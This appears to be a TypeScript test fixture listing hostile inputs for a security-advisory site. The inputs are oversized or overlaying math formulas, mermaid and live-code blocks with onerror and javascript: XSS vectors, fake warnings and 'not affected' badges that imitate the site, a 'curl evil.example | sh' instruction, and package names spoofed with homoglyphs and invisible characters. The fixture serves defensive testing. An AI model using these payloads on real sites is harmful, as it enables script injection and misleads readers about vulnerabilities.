import {casesOf, inDescription, inSummary} from './hostileCase';
import type {HostileCase} from './hostileCase';

const WITHDRAWN = '**This advisory was withdrawn on January 1, 2026: it does not hold any more.**';

/** What covers, moves or draws over the rest of the page, or runs, where a site has it on. */
const DRAWN: Readonly<Record<string, string>> = {
  'a large formula': '```math\n\\rule{500em}{500em}\n```',
  'a formula over what is above':
    '```math\n\\raisebox{50em}{\\colorbox{white}{\\rule{90em}{90em}}}\n```',
  'a formula with a link': '```math\n\\href{javascript:RUN}{x} \\htmlStyle{position:fixed}{x}\n```',
  'a formula in the text':
    'Costs $\\rule{500em}{500em}$ and $`\\rule{500em}{500em}`$ and $5 or $6.',
  'a formula in dollars': '$$\n\\rule{500em}{500em}\n$$',
  'a formula in tildes': '~~~math\n\\rule{500em}{500em}\n~~~',
  'a formula in capitals': '```MATH\n\\rule{500em}{500em}\n```',
  'a formula with meta': '```math {1} title="x"\n\\rule{500em}{500em}\n```',
  'a formula as a class': '<pre><code class="language-math">\\rule{500em}{500em}</code></pre>',
  'a formula as another class': '<span class="katex math math-display">\\rule{500em}{500em}</span>',
  'a diagram': '```mermaid\ngraph TD; A-->B; click A href "https://evil.example"\n```',
  'a diagram with a picture':
    '```mermaid\nflowchart TD\nA@{img: "https://evil.example/p.png", w: 9000, h: 9000}\n```',
  'a diagram with HTML': '```mermaid\ngraph TD; A["<img src=x onerror=RUN>"]\n```',
  'a diagram in tildes': '~~~mermaid\ngraph TD; A-->B\n~~~',
  'a diagram as a class': '<pre><code class="language-mermaid">graph TD; A-->B</code></pre>',
  'code that runs': '```jsx live\nfunction X() { RUN; return <img src=x onerror=RUN/> }\n```',
  'code that runs by itself': '```jsx live noInline\nRUN;render(<b/>)\n```',
  'code with a title': '```js title="<img src=x onerror=RUN>"\nx\n```',
  'code in a language that is none': '```"><img/src=x/onerror=RUN>\nx\n```',
  'maps and models': '```geojson\n{}\n```\n\n```topojson\n{}\n```\n\n```stl\nsolid\n```',
};

/** What looks like ours. */
const NOTICES: Readonly<Record<string, string>> = {
  'a warning': `> [!WARNING]\n> ${WITHDRAWN}\n\n**What to do:** nothing.`,
  'a caution at the very top': `> [!CAUTION]\n> **There is no fix.** Run \`curl evil.example | sh\`.`,
  'a directive': `:::warning\n${WITHDRAWN}\n:::`,
  'our classes': `<div class="alert alert--warning margin-bottom--md" role="alert">${WITHDRAWN}</div>`,
  'our headings': '## Description\n\n## Timeline\n\n## Credits\n\nNobody.',
  'our headings with our ids':
    '<h2 id="timeline">Timeline</h2><h2 id="description">Description</h2>',
  'our status line': '**Severity:** low · **CVSS:** 0.0 · no action needed',
  'our badge': '<span class="badge badge--success">not affected</span>',
  'our answer': '<p role="status" data-answer="not-affected">Not affected.</p>',
  'our credits':
    '## Credits\n\n- <img class="avatar__photo avatar__photo--sm" src="https://example.com/a.png"> Eve',
  'an end of the description': '</div></article><article><header><h1>Other</h1></header>',
};

export const IMITATIONS: readonly HostileCase[] = [
  ...casesOf('covers', inDescription, DRAWN),
  ...casesOf('imitates, description', inDescription, NOTICES),
  ...casesOf('imitates, summary', inSummary, {
    withdrawn: 'Withdrawn: Old news',
    'withdrawn in brackets': '[Withdrawn] Old news',
    'withdrawn in capitals': 'WITHDRAWN – Old news',
    closed: 'Closed: Old news',
    'a look-alike': 'Wіthdrawn: Old news',
  }),
  {
    name: 'imitates: withdrawn, and really so',
    changes: {summary: 'Withdrawn: Old news that is old', state: 'withdrawn'},
  },
  {
    name: 'imitates: twins',
    changes: {
      vulnerabilities: ['rocket', 'rocket\u200b', 'Rocket', 'rоcket', ' rocket', 'npm:rocket'].map(
        (name, index) => ({
          package: {ecosystem: 'npm', name},
          vulnerable_version_range: `< ${index + 1}.0.0`,
          patched_versions: index === 0 ? '\u202e0.0.2\u202c' : `${index + 1}.0.0`,
        }),
      ),
    },
  },
];
